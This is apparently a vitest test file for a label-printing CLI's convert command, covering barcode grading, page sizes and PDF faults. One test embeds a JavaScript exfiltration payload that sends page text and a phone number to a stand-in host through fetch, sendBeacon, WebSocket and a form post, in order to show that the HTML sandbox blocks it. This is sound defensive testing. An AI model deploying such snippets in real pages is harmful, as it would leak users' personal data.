import { execFile } from 'node:child_process'
import { mkdirSync, readdirSync, watch, writeFileSync } from 'node:fs'
import { chmod, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, afterEach, describe, expect, it, vi } from 'vitest'
import { convert } from '../../../src/compose/convertCommand.ts'
import { decodeFile } from '../../../src/emulator/decodeCommand.ts'
import { findChromium } from '../../../src/label/chromium/findChromium.ts'
import { isBlack, sameDots } from '../../../src/model/dots.ts'
import type { LabelSize } from '../../../src/model/labelSize.ts'
import { allLabelSizes, labelSizes } from '../../../src/model/labelSize.ts'
import type { LanguageName } from '../../../src/model/printer.ts'
import { languageNames } from '../../../src/model/printer.ts'
import { createRaster } from '../../../src/raster/raster.ts'
import type { ConvertOptions } from '../../../src/shell/cli/cliActions.ts'
import { openInput } from '../../../src/shell/cli/readInput.ts'
import { makeAsked, replaceAsked } from '../../../src/store/askedFile.ts'
import { faultSentence } from '../../../src/words/faultText.ts'
import { root } from '../../architecture/imports.ts'
import { testHost, unwrap } from '../../support/chromium.ts'
import { dotsOfPng } from '../../support/pngDots.ts'
import type { Mark, SamplePage } from '../../support/samplePdf.ts'
import { samplePdf } from '../../support/samplePdf.ts'
import { tempDir } from '../../support/tempDir.ts'
import { testTerminal } from '../../support/testTerminal.ts'

const never = new AbortController().signal
const raster = createRaster({ workers: 1 })
afterAll(() => raster.close())
afterEach(() => vi.unstubAllEnvs())
/** One for all conversions, which end it as they end their own. */
const shared = () => ({ ...raster, [Symbol.asyncDispose]: async () => {} })

function page(size: LabelSize, text: string): SamplePage {
  const { width, height } = labelSizes[size]
  const bars = { kind: 'code128', text, x: 6, y: 8, module: 0.27 } as const
  return { width: width / 100, height: height / 100, marks: [bars, { kind: 'box', x: 1, y: 40, width: 30, height: 9 }] }
}

const base = {
  language: 'zpl',
  dpmm: 8,
  headMm: null,
  snap: true,
  force: false,
} as const satisfies Partial<ConvertOptions>

describe('packbench convert', () => {
  it.each(languageNames.flatMap((language) => allLabelSizes.map((size) => [language, size] as const)))(
    'writes in %s what comes out as the same dots: %s',
    async (language, size) => {
      await using folder = await tempDir()
      const pdf = await samplePdf(page(size, 'G8ADKBRF'), page(size, 'LXFDFT_2'))
      const { terminal, result } = await converted(folder.path, pdf, { ...base, language, size })
      expect(result).toEqual({ ok: true, value: 0 })
      const told = terminal.said.map((line) => JSON.parse(line))
      expect(told).toMatchObject([
        { page: 1, codes: ['G8ADKBRF'], grade: 'A' },
        { page: 2, codes: ['LXFDFT_2'], grade: 'A' },
      ])
      const labels = await decoded(folder.path, terminal.written(), language)
      expect(labels).toMatchObject([{ codes: ['G8ADKBRF'] }, { codes: ['LXFDFT_2'] }])
      let index = 0
      for await (const label of raster.labels(pdf, size, 8, { snap: true }, never)) {
        const came = dotsOfPng(await readFile(labels[index++]?.file ?? ''))
        expect(label.ok && sameDots(label.value.dots, came)).toBe(true)
      }
    },
  )

  it.skipIf(process.platform === 'win32')(
    'has its labels under no name while it works, where a kill would leave them',
    async () => {
      await using folder = await tempDir()
      vi.stubEnv('TMPDIR', folder.path)
      const pdf = await samplePdf(page('80x80', 'G8ADKBRF'), page('80x80', 'LXFDFT_2'))
      const there: string[][] = []
      const say = () => void there.push(readdirSync(folder.path))
      const file = join(folder.path, 'document')
      await writeFile(file, pdf)
      await convert({ ...base, size: '80x80', file }, { ...testTerminal(), say }, shared)
      expect(there).toEqual([['document'], ['document']])
    },
  )

  it.skipIf(process.platform !== 'linux')(
    'removes nothing under the name that its own folder had: whoever takes it next may lead it anywhere',
    async () => {
      await using folder = await tempDir()
      vi.stubEnv('TMPDIR', folder.path)
      const file = join(folder.path, 'document')
      await writeFile(file, await samplePdf(page('80x80', 'G8ADKBRF'), page('80x80', 'LXFDFT_2')))
      const names = new Set<string>()
      const watching = watch(folder.path, (_, name) => void names.add(name ?? ''))
      const taken = () => [...names].filter((name) => name.startsWith('packbench-convert-'))
      const say = () => {
        for (const name of taken()) mkdirSync(join(folder.path, name), { recursive: true })
        for (const name of taken()) writeFileSync(join(folder.path, name, 'another’s'), 'x')
      }
      const done = await convert({ ...base, size: '80x80', file }, { ...testTerminal(), say }, shared)
      expect(done).toEqual({ ok: true, value: 0 })
      expect(taken().map((name) => readdirSync(join(folder.path, name)))).toEqual([['another’s']])
      watching.close()
    },
  )

  it('leaves the bars as they are when it is told to', async () => {
    await using folder = await tempDir()
    const pdf = await samplePdf(page('80x80', 'G8ADKBRF'))
    const { terminal } = await converted(folder.path, pdf, { ...base, size: '80x80', snap: false })
    expect(JSON.parse(terminal.said[0] ?? '').grade).not.toBe('A')
  })

  it('ends with 1 and writes nothing when a bar code is below C, and writes all of it when it is told to', async () => {
    await using folder = await tempDir()
    const weak = { kind: 'code128', text: 'LXFDFT_2', x: 6, y: 8, module: 0.17 } as const
    const pdf = await samplePdf(page('80x80', 'G8ADKBRF'), { width: 80, height: 80, marks: [weak] })
    const options = { ...base, size: '80x80', snap: false } as const
    const refused = await converted(folder.path, pdf, options)
    expect(refused.terminal.said.map((line) => JSON.parse(line).page)).toEqual([1, 2])
    expect(JSON.parse(refused.terminal.said[1] ?? '').grade).toMatch(/[DF]/)
    expect(refused.result).toEqual({ ok: true, value: 1 })
    expect(refused.terminal.written().length).toBe(0)
    const forced = await converted(folder.path, pdf, { ...options, force: true })
    expect(forced.result).toEqual({ ok: true, value: 0 })
    expect(forced.terminal.said).toEqual(refused.terminal.said)
    expect(await decoded(folder.path, forced.terminal.written(), 'zpl')).toHaveLength(2)
  })

  const crossed = { kind: 'code128', text: 'G8ADKBRF', x: 6, y: 8, module: 0.27 } as const
  const torn = { kind: 'qr', text: 'G8ADKBRF', x: 6, y: 8, module: 0.75 } as const

  it.each([
    ['a Code 128 with a bar through it', [crossed, { kind: 'box', x: 15, y: 6, width: 3, height: 14 }]],
    [
      'a Code 128 that lies on its side and has a white gap',
      [
        { ...crossed, turn: 90 },
        { kind: 'box', x: 5, y: 20, width: 12, height: 2, grey: 1 },
      ],
    ],
    ['a QR code with a corner torn off', [torn, { kind: 'box', x: 6, y: 8, width: 7, height: 7, grey: 1 }]],
    ['a QR code with a blot on its corner', [torn, { kind: 'box', x: 5, y: 7, width: 8, height: 8 }]],
    ['bars that say nothing in a picture', [picturedBars()]],
  ] as const)('ends with 1 and writes nothing for %s, on its own and beside one that reads', async (_, marks) => {
    await using folder = await tempDir()
    const beside = { ...crossed, y: 60 }
    for (const all of [marks, [...marks, beside]]) {
      const pdf = await samplePdf({ width: 80, height: 80, marks: all })
      const options = { ...base, size: '80x80' } as const
      const refused = await converted(folder.path, pdf, options)
      const told = JSON.parse(refused.terminal.said[0] ?? '')
      expect(told).toMatchObject({ codes: all === marks ? [] : ['G8ADKBRF'], grade: 'F', unread: 1 })
      expect(refused.result).toEqual({ ok: true, value: 1 })
      expect(refused.terminal.written().length).toBe(0)
      const forced = await converted(folder.path, pdf, { ...options, force: true })
      expect(forced.result).toEqual({ ok: true, value: 0 })
      expect(await decoded(folder.path, forced.terminal.written(), 'zpl')).toHaveLength(1)
    }
  })

  it.each([
    ['of nothing but letters', [{ kind: 'text', text: 'GIAO HANG NHANH', x: 10, y: 30 }]],
    ['with a table of narrow columns', table()],
    ['with a ring that has a dot in it', ring(30, 30)],
  ] as const)('says of a page %s that there is no code on it, which is no failure', async (_, marks) => {
    await using folder = await tempDir()
    const pdf = await samplePdf({ width: 80, height: 80, marks })
    const { terminal, result } = await converted(folder.path, pdf, { ...base, size: '80x80' })
    const told = JSON.parse(terminal.said[0] ?? '')
    expect(told).toMatchObject({ codes: [], grade: null, noCode: true })
    expect(told).not.toHaveProperty('unread')
    expect(result).toEqual({ ok: true, value: 0 })
  })

  it('keeps all ink of a page that is up to 2 mm too large, as of a view, page by page', async () => {
    await using folder = await tempDir()
    const edge = { kind: 'box', x: 80.4, y: 5, width: 0.8, height: 60 } as const
    const { marks = [] } = page('80x80', 'LXFDFT_2')
    const large = { width: 81.5, height: 81.5, marks: [...marks, edge] }
    const pdf = await samplePdf(page('80x80', 'G8ADKBRF'), large)
    const { terminal, result } = await converted(folder.path, pdf, { ...base, size: '80x80' })
    expect(result).toEqual({ ok: true, value: 0 })
    const labels = await decoded(folder.path, terminal.written(), 'zpl')
    expect(labels).toMatchObject([{ codes: ['G8ADKBRF'] }, { codes: ['LXFDFT_2'] }])
    const dots = dotsOfPng(await readFile(labels[1]?.file ?? ''))
    const isBlackAt = (mm: number) => isBlack(dots, Math.round(mm * 8), 30 * 8)
    // Moved to the left by as much as lay beyond the edge, and no further.
    expect([78.9, 79.4, 79.8].map(isBlackAt)).toEqual([false, true, true])
  })

  it('names letters that are too pale to print', async () => {
    await using folder = await tempDir()
    const { marks = [], ...size } = page('80x80', 'G8ADKBRF')
    const faint = { kind: 'text', text: 'BAN SAO', x: 10, y: 70, grey: 0.9 } as const
    const { terminal } = await converted(folder.path, await samplePdf({ ...size, marks: [...marks, faint] }), {
      ...base,
      size: '80x80',
    })
    expect(JSON.parse(terminal.said[0] ?? '')).toMatchObject({ grade: 'A', faint: 'BAN SAO' })
  })

  it('makes smaller what has too much ink, and refuses a page of another size, saying which', async () => {
    await using folder = await tempDir()
    const band = { kind: 'box', x: 0, y: 40, width: 54, height: 2 } as const
    const large = { width: 54, height: 72, marks: [band] }
    const kept = await converted(folder.path, await samplePdf(large), { ...base, size: '52x70' })
    expect(kept.result).toEqual({ ok: true, value: 0 })
    const { terminal, result } = await converted(
      folder.path,
      await samplePdf({ width: 102, height: 152, marks: [band] }),
      { ...base, size: '80x80' },
    )
    if (result.ok) throw new Error('it was converted')
    expect(result.fault).toMatchObject({ code: 'label.other-size', facts: { page: 1 } })
    expect(faultSentence(result.fault, 'en')).toMatch(/^Wrong size \(page 1\), this page is 102 × 152 mm/)
    expect(faultSentence(result.fault, 'vi')).toMatch(/^Sai khổ \(trang 1\), trang này 102 × 152 mm/)
    expect(terminal.written().length).toBe(0)
  })

  it.each([
    ['an 80×80 label on 72 mm of a receipt printer', { size: '80x80', language: 'escpos', headMm: 80 }],
    ['an A5 label on a 4-inch head', { size: 'A5', language: 'zpl', headMm: 104 }],
  ] as const)('refuses %s, and writes nothing', async (_, options) => {
    await using folder = await tempDir()
    const pdf = await samplePdf(page(options.size, 'G8ADKBRF'))
    const { terminal, result } = await converted(folder.path, pdf, { ...base, ...options })
    expect(result).toMatchObject({ ok: false, fault: { code: 'label.too-large-for-printer' } })
    expect(terminal.written().length).toBe(0)
  })

  it('writes nothing of a document whose last page is of another size', async () => {
    await using folder = await tempDir()
    const pages = [...Array.from({ length: 20 }, () => page('80x80', 'G8ADKBRF')), page('52x70', 'G8ADKBRF')]
    const { terminal, result } = await converted(folder.path, await samplePdf(...pages), { ...base, size: '80x80' })
    expect(result).toMatchObject({ ok: false, fault: { code: 'label.other-size', facts: { page: 21, widthMm: 52 } } })
    expect(terminal.written().length).toBe(0)
  })

  it.each([
    ['that is no PDF', 'file.unreadable', Buffer.from('^XA^XZ')],
    ['that is empty', 'file.unreadable', Buffer.alloc(0)],
    ['that wants a password', 'label.unreadable-page', lockedPdf()],
    ['without pages', 'label.unreadable-page', handmadePdf('', '/Count 0/Kids[]')],
  ] as const)('names the fault of a file %s', async (_, code, bytes) => {
    await using folder = await tempDir()
    const { terminal, result } = await converted(folder.path, bytes, { ...base, size: '80x80' })
    expect(result).toMatchObject({ ok: false, fault: { code } })
    expect(terminal.written().length).toBe(0)
  })

  it('names a file that is not there', async () => {
    const result = await convert({ ...base, size: '80x80', file: '/nowhere/label.pdf' }, testTerminal())
    expect(result).toMatchObject({ ok: false, fault: { code: 'file.unreadable', detail: 'ENOENT' } })
  })

  it('prints HTML by the sandboxed browser, a label a page', async () => {
    await using folder = await tempDir()
    const style = '@page{size:80mm 80mm;margin:0}body{margin:0}div{height:80mm;page-break-after:always}'
    const html = `<!doctype html><style>${style}</style><div>Một</div><div>Hai</div>`
    const { terminal, result } = await converted(folder.path, Buffer.from(html), { ...base, size: '80x80' })
    expect(result).toEqual({ ok: true, value: 0 })
    expect(await decoded(folder.path, terminal.written(), 'zpl')).toMatchObject([{ width: 640 }, { width: 640 }])
  })

  it('loads nothing for HTML from anywhere', async () => {
    await using folder = await tempDir()
    const html = '<!doctype html><img src="http://127.0.0.1:9/x.png">'
    const { result } = await converted(folder.path, Buffer.from(html), { ...base, size: '80x80' })
    expect(result).toMatchObject({ ok: false, fault: { code: 'view.blocked-host' } })
  })

  it('tells nobody what is in a file of HTML, whoever says that its address is his', async () => {
    await using folder = await tempDir()
    await using host = await testHost()
    vi.stubEnv('PACKBENCH_CHROMIUM', await misledBrowser(folder.path, `MAP *.invalid ${host.host}`))
    const ways = `
      for (const way of ['', '//packbench.invalid']) {
        for (const part of ['<img src="W/i">', '<link rel="preconnect" href="W/">', '<link rel="prefetch" href="W/p">',
          '<link rel="stylesheet" href="W/s">', '<iframe src="W/f"></iframe>', '<object data="W/o"></object>',
          '<form method="post" action="W/form"><input name="x" value="0901234567"></form>'])
          document.body.insertAdjacentHTML('beforeend', part.replace('W', way))
        fetch(way + '/leak', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => {})
        navigator.sendBeacon(way + '/beacon', '0901234567')
        new WebSocket(new URL(way + '/socket?0901234567', location.href.replace('http', 'ws')))
        new EventSource(way + '/events')
      }
      document.forms[0].submit()`
    for (const html of [
      `<!doctype html><p>Nguyễn Văn A 0901234567</p><script>${ways}</script>`,
      '<!doctype html><img src="logo.png?0901234567">',
      '<!doctype html><script>location = "/away?0901234567"</script>',
    ]) {
      const { result } = await converted(folder.path, Buffer.from(html), { ...base, size: '80x80' })
      expect(result).toMatchObject({ ok: false, fault: { code: expect.stringMatching(/^view\./) } })
    }
    expect(host.connections()).toBe(0)
  })

  it('as a process writes bytes and nothing else to stdout', async () => {
    await using folder = await tempDir()
    const file = join(folder.path, 'label.pdf')
    await writeFile(file, await samplePdf(page('52x70', 'G8ADKBRF')))
    const good = await packbench('convert', file, '--size', '52x70', '--language', 'zpl')
    expect(good.status).toBe(0)
    expect(good.stdout.subarray(0, 3).toString()).toBe('^XA')
    expect(good.stdout.subarray(-3).toString()).toBe('^XZ')
    expect(JSON.parse(good.stderr.toString())).toMatchObject({ page: 1, width: 416, height: 560 })
    const bad = await packbench('convert', file, '--size', '80x80', '--language', 'zpl')
    expect(bad).toMatchObject({ status: 2, stdout: Buffer.alloc(0) })
  })
})

/** The browser on a network that answers for names which nobody has. */
async function misledBrowser(folder: string, rule: string): Promise<string> {
  const browser = unwrap(await findChromium({ say: () => {}, mayInstall: false }))
  const path = join(folder, 'browser')
  await writeFile(
    path,
    `#!/bin/sh\nexec '${browser}' "$@" '--host-resolver-rules=MAP nowhere.invalid ~NOTFOUND,${rule}'\n`,
  )
  // The account that it runs as has to get there.
  for (const each of [path, folder]) await chmod(each, 0o755)
  return path
}

/** Bars of widths that no symbology has. */
function picturedBars(): Mark {
  const widths = [3, 1, 1, 4, 2, 5, 1, 1, 2, 3, 5, 2, 1, 4]
  const edges = [...widths, ...widths, ...widths].map((width, index, all) => {
    const before = all.slice(0, index).reduce((sum, one) => sum + one, 0)
    return { from: before + 6, to: before + 6 + width, black: index % 2 === 0 }
  })
  const isBlack = (x: number) => edges.some(({ from, to, black }) => black && x >= from && x < to)
  return { kind: 'picture', x: 5, y: 5, width: 60, height: 30, pixels: 120, grey: (x) => (isBlack(x) ? 0 : 255) }
}

/** Ten boxes side by side, one for each digit, as forms have them. */
function table(): readonly Mark[] {
  const rule = (x: number, y: number, width: number, height: number): Mark => ({ kind: 'box', x, y, width, height })
  const upright = [...Array(11).keys()].map((column) => rule(10 + column * 5, 20, 0.3, 8))
  return [...upright, rule(10, 20, 50, 0.3), rule(10, 28, 50.3, 0.3)]
}

/** Black and white as 1:1:3:1:1 along and across. */
function ring(x: number, y: number): readonly Mark[] {
  const square = (inset: number, side: number, grey: number): Mark => {
    return { kind: 'box', x: x + inset, y: y + inset, width: side, height: side, grey }
  }
  return [square(0, 7, 0), square(1, 5, 1), square(2, 3, 0)]
}

async function converted(folder: string, bytes: Uint8Array, options: Omit<ConvertOptions, 'file'>) {
  const file = join(folder, 'document')
  await writeFile(file, bytes)
  const terminal = testTerminal()
  return { terminal, result: await convert({ ...options, file }, terminal, shared) }
}

async function decoded(folder: string, bytes: Uint8Array, language: LanguageName) {
  const file = join(folder, 'labels.bin')
  await writeFile(file, bytes)
  const labels: { file: string }[] = []
  const print = (line: object) => labels.push(line as { file: string })
  const read = await decodeFile({
    file,
    open: openInput,
    language,
    dpmm: 8,
    headMm: 168,
    out: join(folder, 'out'),
    make: makeAsked,
    put: replaceAsked,
    print,
    signal: never,
  })
  expect(read).toEqual({ ok: true, value: [] })
  return labels
}

function handmadePdf(trailer: string, pages: string): Buffer {
  const objects = `1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages${pages}>>\nendobj\n`
  return Buffer.from(`%PDF-1.4\n${objects}trailer\n<</Root 1 0 R/Size 3${trailer}>>\n%%EOF\n`, 'latin1')
}

/** With a user password that nobody knows. */
function lockedPdf(): Buffer {
  const key = `<${'5a'.repeat(32)}>`
  const encrypt = `/Encrypt<</Filter/Standard/V 1/R 2/O${key}/U${key}/P -4>>/ID[<01><01>]`
  return handmadePdf(encrypt, '/Count 1/Kids[3 0 R]')
}

function packbench(...args: readonly string[]) {
  return new Promise<{ status: number; stdout: Buffer; stderr: Buffer }>((resolve) => {
    const words = [join(root, 'src/packbench.js'), ...args]
    const child = execFile(process.execPath, words, { encoding: 'buffer' }, (_, stdout, stderr) =>
      resolve({ status: child.exitCode ?? -1, stdout, stderr }),
    )
  })
}
